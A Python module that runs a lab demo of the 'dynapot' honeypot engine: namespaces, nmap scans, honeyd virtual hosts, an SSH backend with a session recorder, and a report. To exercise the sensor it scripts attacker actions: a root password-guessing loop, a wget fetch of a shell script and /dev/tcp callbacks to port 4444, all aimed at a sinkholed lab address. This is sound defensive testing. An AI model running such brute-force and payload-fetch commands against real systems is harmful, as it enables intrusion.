"""The self-contained demo: the main job when no real network is given.

It builds the lab network (namespaces and a bridge in 198.18.0.0/24, real hosts
running sshd, HTTP and FTP), runs `dynapot scan` with the real nmap from the
attacker namespace, plans virtual honeypots for the free addresses and writes
them as honeyd.conf, then starts the engine (`dynapot run`) in the sensor namespace, which
resumes that deployment with its sensor and keeps it in step. From the attacker namespace
nmap -O looks at a few virtual hosts and a loop guesses SSH passwords; the engine
correlates this into findings, and `dynapot report` shows who did what (also written as
report.html). A real high-interaction backend (its own namespace, a real sshd, routed only
through the sensor) stands behind the Linux virtual hosts' SSH port: the attacker logs in on a
virtual host, lands on the backend with its own address, and what the backend then tries to
reach is sinkholed, then refused; the backend's recorder (`dynapot agent`) ships what the
intruder types to the collector in `dynapot run`, so `dynapot sessions` and the report's story
per attacker show it. Then the lab is torn down. Each step is the CLI command an administrator
would type, printed before it runs.
"""

from __future__ import annotations

import contextlib
import json
import re
import shlex
import shutil
import subprocess
import time
from collections import Counter
from pathlib import Path

import click

from dynapot.lab import Lab, lab_up
from dynapot.lab.backend import BackendHost, high_interaction_backend
from dynapot.lab.recording import COLLECTOR_PORT, running_agent
from dynapot.processes import python_command, terminate

DEMO_PORTS = "21,22,23,25,80,110,139,143,443,445,3306,3389,8080"
BACKEND_OFFSET = 52  # the backend's address in the lab network
SINKHOLE_TARGET = "198.19.0.80"  # nobody: what the backend tries to reach there is contained
STEP_TIMEOUT = 900  # seconds; the lab scan takes well under a minute


def _step(argv: list[str], *, netns: str | None = None) -> None:
    shown = " ".join(shlex.quote(a) for a in argv)
    prefix = f"ip netns exec {netns} " if netns else ""
    click.secho(f"\n$ {prefix}{shown}", bold=True)
    command = ["ip", "netns", "exec", netns, *argv] if netns else argv
    result = subprocess.run(command, timeout=STEP_TIMEOUT, check=False)
    if result.returncode != 0:
        raise click.ClickException(f"step failed with status {result.returncode}: {shown}")


def run_demo(out_dir: Path, *, db_url: str | None = None) -> None:
    out_dir.mkdir(parents=True, exist_ok=True)
    if db_url is None:
        database = out_dir / "dynapot.db"
        for stale in out_dir.glob("dynapot.db*"):
            stale.unlink()  # a fresh inventory each run, so the figures are this run's
        # ... and a fresh engine: a previous run's event journal and correlator state belong to
        # the old inventory (replayed into the new one, they would show the last run's events)
        engine = out_dir / "engine"
        if engine.is_dir() and not engine.is_symlink():
            shutil.rmtree(engine)
        db_url = f"sqlite:///{database.resolve()}"
    dynapot = python_command("-m", "dynapot")
    click.secho("building the lab network (namespaces in 198.18.0.0/24) ...", bold=True)
    with lab_up() as lab:
        click.echo(lab.describe())
        network = str(lab.network)
        _step(
            [*dynapot, "scan", network, "--ports", DEMO_PORTS, "-N", "8", "--db", db_url],
            netns=lab.attacker.netns,
        )
        _step([*dynapot, "hosts", "--db", db_url])
        backend_ip = str(lab.network.network_address + BACKEND_OFFSET)  # kept for the backend, below
        plan_args = [
            "--network",
            network,
            "--gateway",
            str(lab.gateway),
            "--exclude",
            backend_ip,
            "--db",
            db_url,
        ]
        _step([*dynapot, "plan", *plan_args])
        config = out_dir / "honeyd.conf"
        _step([*dynapot, "honeyd-config", *plan_args, "--apply", "-o", str(config)])
        plan_json = out_dir / "plan.json"
        with plan_json.open("w") as handle:
            subprocess.run(
                [*dynapot, "plan", *plan_args, "--json"], stdout=handle, timeout=STEP_TIMEOUT, check=True
            )
        _check_personalities(plan_json)
        click.secho("\nadding a real high-interaction backend (sshd) behind the sensor ...", bold=True)
        with high_interaction_backend(lab, "hi1", BACKEND_OFFSET) as backend:
            click.echo(
                f"  {backend.host.ip} ({backend.host.netns}): account {backend.user} / {backend.password}"
            )
            _deceive(lab, config, plan_json, out_dir, db_url, backend)
    click.secho("\nlab torn down.", bold=True)
    click.echo(f"inventory: {db_url}\nplan:      {plan_json}\nhoneyd:    {config}")
    click.echo(f"report:    {out_dir / 'report.html'}\nengine:    {out_dir / 'engine.out'}")


def _check_personalities(plan_json: Path) -> None:
    """Every planned host wears an nmap-os-db fingerprint (issue 16): say so, or stop the demo."""
    hosts = json.loads(plan_json.read_text())["virtual_hosts"]
    bare = [h["ip"] for h in hosts if not h["personality"]]
    if bare:
        raise click.ClickException(f"{len(bare)} virtual hosts planned without a personality: {bare[:5]}")
    click.echo(f"{len(hosts)} virtual hosts planned, each wearing an nmap-os-db fingerprint")


def _show_targets(plan_json: Path, count: int = 4) -> list[dict]:
    """A few virtual hosts of different OS groups that have open ports (nmap -O needs one)."""
    hosts = json.loads(plan_json.read_text())["virtual_hosts"]
    chosen: dict[str, dict] = {}
    for host in hosts:
        if host["services"] and host["personality"] and host["os"] not in chosen:
            chosen[host["os"]] = host
    return list(chosen.values())[:count]


def _engine_settings(lab: Lab, out_dir: Path, db_url: str, backend: BackendHost, os_name: str) -> Path:
    state = out_dir / "engine"
    state.mkdir(exist_ok=True)
    settings = out_dir / "dynapot.toml"
    settings.write_text(
        f"""# written by the demo: dynapot run on the lab network
[database]
url = "{db_url}"

[[networks]]
cidr = "{lab.network}"
gateway = "{lab.gateway}"
exclude = ["{lab.attacker.ip}"]

[discovery]
mode = "passive"        # the demo scanned already; the engine listens and re-plans

[daemon]
interface = "eth0"
state_dir = "{state.resolve()}"
replan_interval = 1

[alerts]
urls = []               # e.g. ["mailto://...", "json://hooks.example/dynapot"]

[[backends]]            # a real machine behind the Linux virtual hosts' SSH port
{"".join(f"{key} = {json.dumps(value)}{chr(10)}" for key, value in backend.settings(os_name).items())}
[redirect]
mode = "packet"         # the backend sees the attacker's own address
outbound_per_hour = 2   # what the backend starts: two answered by the sinkhole, then refused

[collector]
enabled = true          # Sebek v3 records from the backend's agent (dynapot agent) into sessions
listen = "{lab.sensor.ip}:{COLLECTOR_PORT}"  # the backend's only route is the sensor
"""
    )
    return settings


def _wait_deployed(state: Path, count: int, daemon: subprocess.Popen, timeout: float = 120.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if daemon.poll() is not None:
            raise click.ClickException("dynapot run exited; see demo-output/engine.out")
        with contextlib.suppress(OSError, ValueError):
            status = json.loads((state / "sensor" / "status.json").read_text())
            if status.get("hosts") == count and status.get("pending") == 0:
                return
        time.sleep(0.5)
    raise click.ClickException("the sensor did not answer for the planned hosts in time")


def _deceive(
    lab: Lab, config: Path, plan_json: Path, out_dir: Path, db_url: str, backend: BackendHost
) -> None:
    """Run the engine on the lab, attack a few honeypots, show the findings and the report."""
    targets = _show_targets(plan_json)
    planned = len(json.loads(plan_json.read_text())["virtual_hosts"])
    # The backend stands for the largest OS group (a real Linux box); the others stay emulated.
    groups = Counter(h["os"] for h in json.loads(plan_json.read_text())["virtual_hosts"])
    os_name = groups.most_common(1)[0][0] if groups else "Linux"
    settings = _engine_settings(lab, out_dir, db_url, backend, os_name)
    dynapot = python_command("-m", "dynapot")
    click.secho(f"\n$ ip netns exec {lab.sensor.netns} dynapot run --config {settings}  &", bold=True)
    with (out_dir / "engine.out").open("w") as out:
        daemon = lab.popen(lab.sensor, [*dynapot, "run", "--config", str(settings)], stdout=out, stderr=out)
    try:
        _wait_deployed(out_dir / "engine", planned, daemon)
        _step([*dynapot, "status", "--config", str(settings)])
        collector = f"{lab.sensor.ip}:{COLLECTOR_PORT}"
        click.secho(
            f"\n$ ip netns exec {backend.host.netns} dynapot agent --collector {collector}  &", bold=True
        )
        click.echo("  (the recorder on the backend: eBPF on syscall tracepoints, its namespace only)")
        with running_agent(lab, backend.host, collector, out_dir):
            _attack(lab, plan_json, targets, out_dir, settings, backend)
    finally:
        terminate(daemon, 60)


def _attack(
    lab: Lab, plan_json: Path, targets: list[dict], out_dir: Path, settings: Path, backend: BackendHost
) -> None:
    """Scan, guess passwords, intrude on the backend, then show the sessions and the report."""
    dynapot = python_command("-m", "dynapot")
    for host in targets:
        click.echo(f"  {host['ip']} should look like: {host['personality']}")
    ports = sorted({s["port"] for h in targets for s in h["services"]} | {1})
    port_list = ",".join(str(p) for p in ports)
    _step(["nmap", "-n", "-O", "-p", port_list, *(h["ip"] for h in targets)], netns=lab.attacker.netns)
    redirected = _redirected(out_dir / "engine" / "honeyd.conf", backend)
    # The password guesses go to an emulated SSH (it records each); the intruder, to the backend.
    with_ssh = [
        h["ip"]
        for h in json.loads(plan_json.read_text())["virtual_hosts"]
        if any(s["port"] == 22 for s in h["services"])
    ]
    ssh = [ip for ip in with_ssh if ip not in redirected] or with_ssh
    if ssh and shutil.which("sshpass"):
        click.secho(f"\n$ for i in $(seq 12); do sshpass -p guess-$i ssh root@{ssh[0]}; done", bold=True)
        for attempt in range(12):
            lab.exec(
                lab.attacker,
                ["sshpass", "-p", f"guess-{attempt}", "ssh", *_SSH_OPTIONS, f"root@{ssh[0]}", "true"],
                timeout=30,
            )
    _intrude(lab, redirected, backend)
    time.sleep(3)  # the engine correlates every second
    _step([*dynapot, "sessions", "--config", str(settings)])
    report = out_dir / "report.html"
    _step([*dynapot, "report", "--since", "1h", "--config", str(settings), "--limit", "10", "--rows", "20"])
    _step(
        [
            *dynapot,
            "report",
            "--since",
            "1h",
            "--config",
            str(settings),
            "--format",
            "html",
            "-o",
            str(report),
        ]
    )


def _redirected(deployed: Path, backend: BackendHost) -> list[str]:
    """The virtual hosts whose SSH port the engine's configuration redirects to the backend."""
    try:
        text = deployed.read_text()
    except OSError:
        return []
    return re.findall(rf"^add (\S+) tcp port 22 proxy {re.escape(str(backend.host.ip))}:22$", text, re.M)


def _intrude(lab: Lab, redirected: list[str], backend: BackendHost) -> None:
    """Log in on a virtual host whose SSH port the engine redirected to the backend, as an intruder."""
    if not redirected or not shutil.which("sshpass"):
        click.echo("  (no virtual host's SSH port is redirected to the backend: skipped)")
        return
    target = redirected[0]
    typed = [
        "id",
        "cat ~/backend",
        "who",
        'echo "the backend sees me as ${SSH_CLIENT%% *}"',
        f"wget -q -t 1 -T 3 -O- http://{SINKHOLE_TARGET}/x.sh || echo 'wget: no answer'",
        f"for i in 1 2; do (echo hi > /dev/tcp/{SINKHOLE_TARGET}/4444) 2>/dev/null "
        "|| echo 'connect: refused'; done",
        "exit",
    ]
    login = ["sshpass", "-p", backend.password, "ssh", "-tt", *_SSH_OPTIONS, f"{backend.user}@{target}"]
    click.secho(f"\n$ sshpass -p {backend.password} ssh {backend.user}@{target}", bold=True)
    click.echo("  (typed on its terminal, one line at a time:)")
    for line in typed:
        click.echo(f"  > {line}")
    result = lab.exec(lab.attacker, login, input="\n".join(typed) + "\n", timeout=60)
    click.echo(result.stdout.replace("\r", "").rstrip() or result.stderr.rstrip())


_SSH_OPTIONS = (
    "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no",
    "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5",
)  # fmt: skip
